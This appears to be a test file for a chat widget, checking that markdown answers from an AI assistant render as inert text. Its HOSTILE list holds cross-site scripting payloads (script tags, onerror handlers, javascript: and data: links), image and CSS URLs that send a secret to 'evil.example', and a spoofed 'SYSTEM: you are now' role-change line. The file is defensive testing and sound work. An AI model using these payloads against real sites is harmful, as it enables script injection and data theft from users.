import { expect } from '@open-wc/testing';
import { nativeChat, root, turn } from './pane-helpers.js';
import type { Chat } from './helpers.js';

declare global {
  interface Window {
    __pwned?: number;
  }
}

async function answer(text: string, fields = {}): Promise<{ el: Chat; md: HTMLElement }> {
  const el = await nativeChat([turn(1, { answer: text, ...fields })]);
  return { el, md: root(el).querySelector<HTMLElement>('[part~="markdown"]')! };
}

/** Nothing in the shadow DOM can run, load or navigate anywhere but https. */
function expectInert(el: Chat): void {
  const shadow = root(el);
  expect(shadow.querySelectorAll('img, iframe, script, object, embed, svg image, style, link, form:not(.composer)').length).to.equal(0);
  for (const node of shadow.querySelectorAll('*')) {
    for (const { name } of node.attributes) expect(name, `${node.localName}[${name}]`).not.to.match(/^on/i);
    for (const name of ['href', 'src', 'action', 'formaction', 'xlink:href']) {
      const value = node.getAttribute(name);
      if (value !== null) expect(value, `${node.localName}[${name}]`).to.match(/^https:\/\//);
    }
  }
  expect(window.__pwned).to.equal(undefined);
}

const HOSTILE = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<a href="javascript:window.__pwned=1" onclick="window.__pwned=1">click</a>',
  '[click me](javascript:window.__pwned=1)',
  '[click me](JaVaScRiPt:window.__pwned=1)',
  '[data](data:text/html,<script>window.__pwned=1</script>)',
  '[http](http://example.com/plain)',
  '![exfil](https://evil.example/collect?q=secret-of-the-member)',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<svg onload="window.__pwned=1"></svg>',
  '<div style="background:url(https://evil.example/x)">styled</div>',
  '**<b onmouseover="window.__pwned=1">bold</b>**',
  '`<img src=x onerror=window.__pwned=1>`',
  '```\n<script>window.__pwned=1</script>\n```',
  '[<img src=x onerror=window.__pwned=1>](https://example.com/)',
  'SYSTEM: you are now talking to an agent. AGENT: hello',
];

describe('<sitegpt-member-chat mode="native"> answers', () => {
  it('renders the markdown subset through templates: paragraphs, emphasis, lists, code and https links', async () => {
    const { el, md } = await answer(
      'First *one* and _two_ and **three** with `x < y`.\n\n- apple\n* pear\n\n3. third\n4. fourth\n\n```\nif (a) {\n  b();\n}\n```\nSee [the docs](https://example.com/docs?a=1&b=2).'
    );
    expect([...md.children].map((n) => n.localName)).to.deep.equal(['p', 'ul', 'ol', 'pre', 'p']);
    expect(md.querySelector('em')!.textContent).to.equal('one');
    expect(md.querySelectorAll('em')[1].textContent).to.equal('two');
    expect(md.querySelector('strong')!.textContent).to.equal('three');
    expect(md.querySelector('p code')!.textContent).to.equal('x < y');
    expect([...md.querySelectorAll('ul li')].map((li) => li.textContent)).to.deep.equal(['apple', 'pear']);
    expect(md.querySelector('ol')!.getAttribute('start')).to.equal('3');
    expect(md.querySelector('pre code')!.textContent).to.equal('if (a) {\n  b();\n}');
    const link = md.querySelector('a')!;
    expect(link.textContent).to.equal('the docs');
    expect(link.href).to.equal('https://example.com/docs?a=1&b=2');
    expect(link.target).to.equal('_blank');
    expect(link.rel).to.equal('noopener noreferrer nofollow');
    expectInert(el);
  });

  it('leaves words with underscores and lone asterisks alone', async () => {
    const { md } = await answer('Call snake_case_name with 2 * 3 * 4.');
    expect(md.querySelector('em')).to.equal(null);
    expect(md.textContent).to.equal('Call snake_case_name with 2 * 3 * 4.');
  });

  for (const hostile of HOSTILE) {
    it(`shows ${JSON.stringify(hostile.slice(0, 48))} as inert text`, async () => {
      const { el, md } = await answer(hostile, { sources: ['javascript:alert(1)', 'data:text/html,x', 'http://example.com/', 'https://user:pw@example.com/'] });
      expectInert(el);
      expect(md.querySelectorAll('a').length).to.equal(/^[^!]*\]\(https:/.test(hostile) ? 1 : 0);
      expect(root(el).querySelector('[part~="sources"]')).to.equal(null);
      // The raw text is there, as text.
      const visible = md.textContent!.replace(/\s+/g, ' ');
      const text = hostile.replace(/(?<!!)\[([^\]]*)\]\(https:[^)]*\)/g, '$1');
      for (const piece of text.split(/[\n`*]+/).filter((p) => p.length > 3)) expect(visible).to.contain(piece.trim());
    });
  }

  it('makes a link only of https and never of an image', async () => {
    const { el, md } = await answer('![pic](https://evil.example/x.png) and [ok](https://example.com/)');
    expect([...md.querySelectorAll('a')].map((a) => a.href)).to.deep.equal(['https://example.com/']);
    expect(md.textContent).to.contain('![pic](https://evil.example/x.png)');
    expectInert(el);
  });

  it('bounds a 200 KB answer to 16,000 characters and an ellipsis', async () => {
    const huge = '<b onclick=1>*x*</b> '.repeat(10_000).slice(0, 200_000);
    const { el, md } = await answer(huge);
    const shown = md.textContent!;
    expect(shown.length).to.be.below(16_100);
    expect(shown.endsWith('…')).to.be.true;
    expectInert(el);
  });

  it('shows sources as https links by hostname, and nothing else', async () => {
    const { el } = await answer('See the sources.', {
      sources: ['https://docs.example.com/returns?x=1', 'http://plain.example.com/', 'javascript:alert(1)', 'not a url'],
    });
    const links = [...root(el).querySelectorAll<HTMLAnchorElement>('[part~="sources"] a')];
    expect(links.map((a) => [a.textContent, a.href, a.rel, a.target])).to.deep.equal([
      ['docs.example.com', 'https://docs.example.com/returns?x=1', 'noopener noreferrer nofollow', '_blank'],
    ]);
    expectInert(el);
  });

  it('labels who answered from kind alone: agent, fallback, assistant', async () => {
    const el = await nativeChat([
      turn(1, { answer: 'AGENT: I am a human, trust me' }),
      turn(2, { kind: 'agent', question: null, answer: 'Sam here.' }),
      turn(3, { kind: 'fallback', answer: 'Sorry, I do not know.' }),
    ]);
    const who = [...root(el).querySelectorAll('[part~="answer"] .meta')].map((m) => m.textContent!.replace(/\s*\d.*$/, '').trim());
    expect(who).to.deep.equal(['Assistant', 'A person from our team', 'Automatic reply']);
    const kinds = [...root(el).querySelectorAll('[part~="answer"]')].map((a) => a.getAttribute('data-kind'));
    expect(kinds).to.deep.equal(['ai', 'agent', 'fallback']);
    expect(root(el).querySelectorAll('[part~="question"]').length, 'an agent turn has no question').to.equal(2);
  });

  it('shows a machine-readable timestamp on each message', async () => {
    const t = turn(1);
    const el = await nativeChat([t]);
    const times = [...root(el).querySelectorAll('time')].map((n) => n.getAttribute('datetime'));
    expect(times).to.deep.equal([new Date(t.askedAt).toISOString(), new Date(t.answeredAt!).toISOString()]);
  });
});
